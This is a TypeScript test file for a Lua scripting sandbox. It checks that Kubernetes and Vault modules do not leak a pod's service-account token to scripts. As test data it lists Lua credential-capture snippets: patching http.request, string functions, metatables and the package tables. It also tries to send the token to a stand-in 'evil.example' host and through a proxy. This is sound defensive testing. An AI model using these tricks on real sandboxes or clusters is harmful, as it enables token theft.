/** The embedded modules in check files: they work, and give scripts nothing that checks do not have. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { results, runScript } from "../builtins/script.ts";
import { Fixture, json } from "./fixture.ts";

let server: Fixture;
let folder: string;
beforeAll(async () => {
  server = await Fixture.start({ "*": json({ items: [] }) });
  folder = mkdtempSync(join(tmpdir(), "checks-"));
  writeFileSync(join(folder, "token"), "sesame");
});
afterAll(async () => {
  await server.close();
  rmSync(folder, { recursive: true });
});

test("a module reads the pod's token, the script cannot", async () => {
  const env = {
    KUBERNETES_SERVICE_HOST: "127.0.0.1",
    KUBERNETES_SERVICE_PORT: String(server.port),
    ASSAY_SERVICEACCOUNT_DIR: folder,
  };
  const source = `local k8s = require("assay.k8s")
    return #k8s.list(nil, "ns", { base_url = "${server.url}" }).items, fs, ws, crypto, net, regex, k8s.fs, pcall(require, "fs")`;
  const { error, results: given } = await runScript(source, { selection: "check", env });
  expect(error).toBeUndefined();
  expect(given.slice(0, 8)).toEqual([0, undefined, undefined, undefined, undefined, undefined, undefined, false]);
  expect(server.calls.at(-1)!.headers.authorization).toBe("Bearer sesame");
});

describe("nothing that a script replaces is called with a credential", () => {
  const PRELUDE = `
    local seen = {}
    local function spy(...)
      for i = 1, select("#", ...) do
        local one = select(i, ...)
        if type(one) == "string" then seen[#seen + 1] = one end
        if type(one) == "table" then for k, v in next, one do spy(k, v) end end
      end
    end
    local k8s = require("assay.k8s")`;
  const CALL = `
    pcall(k8s.list, nil, "ns", { base_url = BASE })
    for _, one in next, seen do if string.find(one, "sesame") then return one end end
    return nil`;
  test.each([
    [`http.request = function(...) spy(...) return { status = 200, headers = {}, body = "{}" } end`],
    [`string.match = spy; string.gsub = spy; string.find = spy; string.format = spy`],
    [`getmetatable("").__index = function(s) spy(s) end`],
    [`rawset(_G, "pcall", spy); tostring = spy; pairs = spy; next = next; setmetatable = spy`],
    [`package.loaded["assay._http"] = setmetatable({}, { __index = spy })`],
    [`package.preload["assay._kubernetes"] = function() return setmetatable({}, { __index = spy }) end`],
    [
      `for _, m in next, package.loaded do if type(m) == "table" then for k, v in next, m do
        if type(v) == "function" and m ~= k8s and m ~= _G then m[k] = function(...) spy(...) return v(...) end end end end end`,
    ],
    [`spy(getmetatable(k8s.client(BASE)) or {})`],
    [
      `local c = k8s.client(BASE); local m = getmetatable(c); spy(m and m.spec and m.spec.connection(c, { host = "kubernetes", base = BASE, port = 443 }))`,
    ],
    [`spy(select(2, pcall(require, "assay._kubernetes")))`],
    [`spy(select(2, pcall(require("assay.vault").login, BASE, "kubernetes", { role = "x" })))`],
  ])("%s", async (attack) => {
    const env = {
      KUBERNETES_SERVICE_HOST: "127.0.0.1",
      KUBERNETES_SERVICE_PORT: String(server.port),
      ASSAY_SERVICEACCOUNT_DIR: folder,
    };
    const code = `local spied, BASE = nil, "${server.url}"\n${PRELUDE}\npcall(function() ${attack} end)\n${CALL}`;
    const { error, results: given } = await runScript(code, { selection: "check", env });
    // Breaking its own tools is the script's own affair.
    if (error === undefined) expect(given[0]).toBeUndefined();
    else expect(error).not.toContain("sesame");
  });

  test.each([
    ["http://kubernetes.default.svc.evil.example", "nothing"],
    ["https://kubernetes.default.svc.evil.example", "insecure = true"],
    ["http://kubernetes.default.svc", "proxy = PROXY"],
    ["https://kubernetes.default.svc", "proxy = PROXY, insecure = true"],
  ])("the token does not go to %s (%s)", async (url, options) => {
    const seen: string[] = [];
    const proxy = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch(request) {
        seen.push(request.headers.get("authorization") ?? "none");
        return new Response("{}");
      },
    });
    const env = {
      ASSAY_SERVICEACCOUNT_DIR: folder,
      HTTP_PROXY: proxy.url.href,
      http_proxy: proxy.url.href,
      KUBERNETES_SERVICE_HOST: "127.0.0.1",
    };
    const code = `local PROXY = "${proxy.url.href}"
      return pcall(require("assay.k8s").get, "/x", { base_url = "${url}", ${options.replace("nothing", "")} })`;
    await runScript(code, { selection: "check", env });
    await proxy.stop(true);
    expect(seen.filter((one) => one !== "none")).toEqual([]);
  });
});

test("assert, base64 and json of the modules are the script's", async () => {
  const source = `local hc = require("assay.healthcheck")
    return hc.multi({ { name = "a", check = function() return true end } }, { parallel = 3 }).ok, hc.body_matches("${server.url}", "ite+ms").ok`;
  expect(await results(source, { selection: "check" })).toEqual([true, true]);
});
